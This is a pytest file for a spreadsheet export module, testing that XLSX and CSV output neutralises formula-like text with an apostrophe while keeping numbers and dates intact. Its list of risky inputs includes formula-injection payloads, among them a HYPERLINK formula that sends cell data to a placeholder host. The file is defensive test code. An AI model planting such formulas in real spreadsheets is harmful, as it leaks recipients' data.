"""The one spreadsheet writer: text that would run as a formula stays text; numbers and dates stay what they are."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from factories import vn
from flask_babel import lazy_gettext
from openpyxl import load_workbook

from onestop import spreadsheet

RISKY = ["=1+1", "+84912345678", "-2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x/?"&E5,"…")']
HARMLESS = ["Nguyễn Văn Đức", "", "a=b", "1-2", "'quoted", " =1"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_gets_an_apostrophe(text):
    assert spreadsheet.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, 0, -5, 12.5, Decimal("-1.5"), None, date(2026, 3, 2),
                                   vn(2026, 3, 2, 9, 0)])
def test_other_values_are_untouched(value):
    assert spreadsheet.neutralise(value) == value


def read_back(sheets):
    return load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(sheets)))


def test_xlsx_stores_risky_text_as_quoted_text_and_keeps_numbers_and_dates(app):
    sheet = spreadsheet.Sheet(lazy_gettext("Bảng"), ["Giá trị", "=Tiêu đề"], [
        [text, -1] for text in RISKY + HARMLESS
    ] + [[date(2026, 3, 2), vn(2026, 3, 2, 9, 5)], [None, 12.5]], titles=["Báo cáo", "-Kỳ"])
    ws = read_back([sheet])["Bảng"]
    assert ws["A1"].value == "Báo cáo" and ws["A1"].font.b
    assert ws["A2"].value == "-Kỳ" and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["B3"].value == "=Tiêu đề" and ws["B3"].data_type == "s" and ws["B3"].font.b
    assert ws.freeze_panes == "A4"
    rows = list(ws.iter_rows(min_row=4))
    for row, text in zip(rows, RISKY + HARMLESS, strict=False):
        # the XML keeps no bare CR with the standard library's writer; with lxml installed it does
        assert row[0].value in ((text.replace("\r", "\n") or None), (text or None))
        assert bool(row[0].quotePrefix) == (text in RISKY), text
        assert row[1].value == -1 and row[1].data_type == "n"
    day, moment = rows[len(RISKY + HARMLESS)]
    assert day.is_date and day.number_format == "dd/mm/yyyy" and day.value == datetime(2026, 3, 2)
    assert moment.is_date and moment.number_format == "dd/mm/yyyy hh:mm"
    assert moment.value == datetime(2026, 3, 2, 9, 5)  # Vietnam's wall-clock time
    assert [c.value for c in rows[-1]] == [None, 12.5]
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_xlsx_streams_any_iterable_and_cuts_long_sheet_names(app):
    rows = ([i, f"={i}"] for i in range(1000))
    book = read_back([spreadsheet.Sheet("x" * 40, ["Số", "Công thức"], rows, widths=(6, 20))])
    ws = book["x" * 31]
    assert ws.max_row == 1001 and ws["B1001"].value == "=999" and ws["B1001"].data_type == "s"
    assert ws.column_dimensions["B"].width == 20


def test_csv_prefixes_risky_cells_and_writes_dates_in_vietnamese_order(app):
    body = spreadsheet.csv_bytes(["Tên", "=Đầu"], [[text, -1] for text in RISKY]
                                 + [[date(2026, 3, 2), vn(2026, 3, 2, 9, 5)], [None, 12.5]])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8")[1:], newline="")))
    assert rows[0] == ["Tên", "'=Đầu"]
    assert [r[0] for r in rows[1:1 + len(RISKY)]] == ["'" + t for t in RISKY]
    assert all(r[1] == "-1" for r in rows[1:1 + len(RISKY)])  # a negative number is not text
    assert rows[-2:] == [["02/03/2026", "02/03/2026 09:05"], ["", "12.5"]]
